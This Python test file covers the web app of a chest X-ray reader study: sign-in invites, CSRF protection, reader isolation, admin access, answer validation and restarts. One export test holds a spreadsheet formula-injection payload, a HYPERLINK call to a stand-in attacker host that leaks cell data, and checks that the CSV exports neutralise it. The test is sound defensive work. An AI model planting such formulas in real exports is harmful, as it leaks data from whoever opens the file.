"""HTTP API: sign-in, CSRF, per-reader isolation, admin-only pages, idempotency, restarts."""

from __future__ import annotations

from sqlalchemy import func, select
from study_helpers import FULL_ANSWER, csrf_of, invite_path, sign_in_admin, sign_in_reader, task_of

from synthcxr.study.db import Answer, session_scope


def _answer(client, page: str, **overrides):
    data = {**FULL_ANSWER, "csrf_token": csrf_of(page), **overrides}
    return client.post(f"/read/answer/{task_of(page)}", data=data)


def _count_answers(db_url: str) -> int:
    with session_scope(db_url) as s:
        return s.scalar(select(func.count()).select_from(Answer))


def test_invite_is_one_time_and_sets_safe_cookie(study, make_client):
    client = make_client()
    link = study.invites["reader-1"]
    page = client.get(invite_path(link))
    assert "Start reading" in page.text
    resp = client.post(invite_path(link), data={"csrf_token": csrf_of(page.text)}, follow_redirects=False)
    assert resp.status_code == 303 and resp.headers["location"] == "/read"
    cookie = resp.headers["set-cookie"].lower()
    assert "httponly" in cookie and "samesite=lax" in cookie
    # the link is spent: another browser cannot use it again
    other = make_client()
    assert other.get(invite_path(link)).status_code == 404
    # this browser continues without it, and reopening the link there just continues too
    assert "Image 1 of 13" in client.get("/read").text
    again = client.get(invite_path(link), follow_redirects=False)
    assert again.status_code == 303 and again.headers["location"] == "/read"


def test_unknown_invite_and_anonymous_reader_pages(study, make_client):
    client = make_client()
    assert client.get("/invite/not-a-real-token").status_code == 404
    assert client.get("/read").status_code == 401
    assert client.get("/read/image/whatever").status_code == 401
    assert client.post("/read/answer/whatever", data=FULL_ANSWER).status_code == 401


def test_csrf_is_required_on_every_post(study, make_client):
    client = make_client()
    link = study.invites["reader-1"]
    client.get(invite_path(link))
    # pre-sign-in form: wrong token is refused and the invite stays unused
    assert client.post(invite_path(link), data={"csrf_token": "forged"}).status_code == 403
    page = sign_in_reader(client, link)
    task = task_of(page)
    assert client.post(f"/read/answer/{task}", data=FULL_ANSWER).status_code == 403  # missing
    assert client.post(f"/read/answer/{task}", data={**FULL_ANSWER, "csrf_token": "x" * 43}).status_code == 403
    assert _count_answers(study.db_url) == 0
    assert client.post("/logout", data={"csrf_token": "bad"}).status_code == 403
    # admin login form and admin POSTs as well
    admin = make_client()
    admin.get("/admin/login")
    assert admin.post("/admin/login", data={"csrf_token": "bad", "token": study.admin_token}).status_code == 403
    sign_in_admin(admin, study.admin_token)
    resp = admin.post(f"/admin/study/{study.name}/readers", data={"csrf_token": "bad", "reader_name": "x"})
    assert resp.status_code == 403


def test_reader_cannot_read_or_answer_another_readers_tasks(study, make_client):
    a, b = make_client(), make_client()
    page_a = sign_in_reader(a, study.invites["reader-1"])
    page_b = sign_in_reader(b, study.invites["reader-2"])
    task_b = task_of(page_b)
    assert b.get(f"/read/image/{task_b}").status_code == 200
    assert a.get(f"/read/image/{task_b}").status_code == 404
    resp = a.post(f"/read/answer/{task_b}", data={**FULL_ANSWER, "csrf_token": csrf_of(page_a)})
    assert resp.status_code == 404
    # B's CSRF token does not work in A's session either
    resp = a.post(f"/read/answer/{task_of(page_a)}", data={**FULL_ANSWER, "csrf_token": csrf_of(page_b)})
    assert resp.status_code == 403
    assert _count_answers(study.db_url) == 0
    # readers are not admins
    assert a.get("/admin").status_code == 403
    assert a.get(f"/admin/study/{study.name}/export.csv").status_code == 403


def test_admin_pages_and_exports_need_the_admin(study, make_client):
    anon = make_client()
    for url in ("/admin", f"/admin/study/{study.name}", f"/admin/study/{study.name}/export.csv",
                f"/admin/study/{study.name}/analysis.json"):
        assert anon.get(url).status_code == 401
    admin = make_client()
    admin.get("/admin/login")
    wrong = admin.post("/admin/login", data={"csrf_token": admin.cookies.get("synthcxr_csrf"), "token": "nope"})
    assert wrong.status_code == 403
    sign_in_admin(admin, study.admin_token)
    page = admin.get(f"/admin/study/{study.name}")
    assert "reader-1" in page.text and "reader-2" in page.text
    csv_resp = admin.get(f"/admin/study/{study.name}/export.csv")
    assert csv_resp.status_code == 200 and csv_resp.text.startswith("study,reader,position")
    # adding a reader from the admin page shows a working invite link once
    resp = admin.post(f"/admin/study/{study.name}/readers", data={"csrf_token": csrf_of(page.text), "reader_name": "dr-x"})
    assert resp.status_code == 200
    link = resp.text.split("<code>")[1].split("</code>")[0]
    assert "/invite/" in link
    sign_in_reader(make_client(), link.replace("http://testserver", ""))


def test_answers_are_idempotent_and_progress_advances(study, make_client):
    client = make_client()
    page = sign_in_reader(client, study.invites["reader-1"])
    first = _answer(client, page)
    assert "Image 2 of 13" in first.text
    # double submit of the same form: quietly continues
    again = _answer(client, page)
    assert again.status_code == 200 and "Image 2 of 13" in again.text
    # a second tab holding the old page sends a different answer: told that the first one was kept
    tab2 = make_client()
    tab2.cookies.update(client.cookies)
    conflict = _answer(tab2, page, realism="2")
    assert conflict.status_code == 409
    assert "first answer was kept" in conflict.text and 'href="/read"' in conflict.text
    assert _answer(client, page, comment="a second thought").status_code == 409
    assert _count_answers(study.db_url) == 1
    with session_scope(study.db_url) as s:
        stored = s.scalar(select(Answer))
        assert (stored.realism, stored.judged_real, stored.confidence, stored.finding) == (4, True, 2, "normal")
        assert stored.client_ms == 1234 and stored.server_ms is not None


def test_incomplete_answer_is_rejected(study, make_client):
    client = make_client()
    page = sign_in_reader(client, study.invites["reader-1"])
    assert _answer(client, page, realism="").status_code == 400
    assert _answer(client, page, realism="9").status_code == 400
    assert _answer(client, page, choice="maybe").status_code == 400
    assert _answer(client, page, finding="").status_code == 400
    assert _count_answers(study.db_url) == 0
    assert _answer(client, page, comment="").status_code == 200  # comment is optional


def test_numbers_in_answers_must_be_ascii_digits(study, make_client):
    client = make_client()
    page = sign_in_reader(client, study.invites["reader-1"])
    for value in ("\u00b2", "\u0663", "\uff13", "9" * 5000, "+3", "3.0"):  # superscript 2, Arabic-Indic 3, full-width 3
        for field in ("realism", "confidence"):
            resp = _answer(client, page, **{field: value})
            assert resp.status_code == 400 and "whole number" in resp.text, (field, value)
    assert _count_answers(study.db_url) == 0
    assert _answer(client, page, elapsed_ms="\u00b2\u00b2").status_code == 200  # optional timing: dropped, not a crash
    with session_scope(study.db_url) as s:
        assert s.scalar(select(Answer.client_ms)) is None


def test_exports_neutralise_spreadsheet_formulas(study, make_client, tmp_path):
    import csv
    import io

    from synthcxr.study.service import add_reader, analyze_study, export_ratings, simulate_answers

    formula = '=HYPERLINK("http://evil.example/?d="&A2,"open")'
    client = make_client()
    page = sign_in_reader(client, study.invites["reader-1"])
    assert _answer(client, page, comment=formula).status_code == 200
    for name in ("@SUM(1+1)", "+1+1", "-2+3"):
        add_reader(study.db_url, study.name, name)
    simulate_answers(study.db_url, study.name)
    rows = list(csv.DictReader(export_ratings(study.db_url, study.name, tmp_path / "r.csv").open(newline="")))
    assert "'" + formula in [r["comment"] for r in rows]
    assert {r["reader"] for r in rows} >= {"'@SUM(1+1)", "'+1+1", "'-2+3"}
    admin = make_client()
    sign_in_admin(admin, study.admin_token)
    served = list(csv.DictReader(io.StringIO(admin.get(f"/admin/study/{study.name}/export.csv").text)))
    analyze_study(study.db_url, study.name, tmp_path / "an", n_boot=50)
    readers_table = list(csv.DictReader((tmp_path / "an" / "readers.csv").open(newline="")))
    for table in (rows, served, readers_table):
        for row in table:
            for value in row.values():
                if value and value[0] in "=+-@\t\r":
                    float(value)  # only numbers (e.g. a negative kappa) may start like a formula


def test_every_formula_start_is_neutralised():
    from synthcxr.study.csvsafe import safe_cell

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "cmd") == "'" + start + "cmd"
    assert safe_cell("reader-1") == "reader-1" and safe_cell(-0.25) == -0.25 and safe_cell(None) == ""


def test_answers_and_sessions_survive_a_restart(study, make_client):
    from synthcxr.study.db import dispose_engine

    client = make_client()
    page = sign_in_reader(client, study.invites["reader-2"])
    for _ in range(3):
        page = _answer(client, page).text
    cookies = dict(client.cookies)
    client.close()
    dispose_engine(study.db_url)  # drop every pooled connection: a new process would start cold
    restarted = make_client()
    restarted.cookies.update(cookies)
    page = restarted.get("/read").text
    assert "Image 4 of 13" in page
    assert _count_answers(study.db_url) == 3


def test_finishing_the_study_shows_thanks(study, make_client):
    client = make_client()
    page = sign_in_reader(client, study.invites["reader-1"])
    for _ in range(13):
        page = _answer(client, page).text
    assert "All done" in page
    assert _count_answers(study.db_url) == 13
    pause = client.get("/pause")
    assert "13 of 13" in pause.text


def test_dashboard_works_from_the_first_answer_and_survives_a_failing_analysis(study, make_client, monkeypatch):
    """One answer gives no AUC and no CI: the page (and its plots) must still render; an analysis
    that raises shows its error while progress stays usable."""
    reader = make_client()
    page = sign_in_reader(reader, study.invites["reader-1"])
    assert _answer(reader, page).status_code == 200
    admin = make_client()
    sign_in_admin(admin, study.admin_token)
    resp = admin.get(f"/admin/study/{study.name}")
    assert resp.status_code == 200 and "Can readers tell each model from real?" in resp.text
    import synthcxr.study.analysis as analysis

    def broken(*args, **kwargs):
        raise RuntimeError("boom")

    monkeypatch.setattr(analysis, "analyze", broken)
    resp = admin.get(f"/admin/study/{study.name}?refresh=1")
    assert resp.status_code == 200 and "The analysis failed: RuntimeError: boom" in resp.text
    assert "1 / 13" in resp.text  # progress still shown
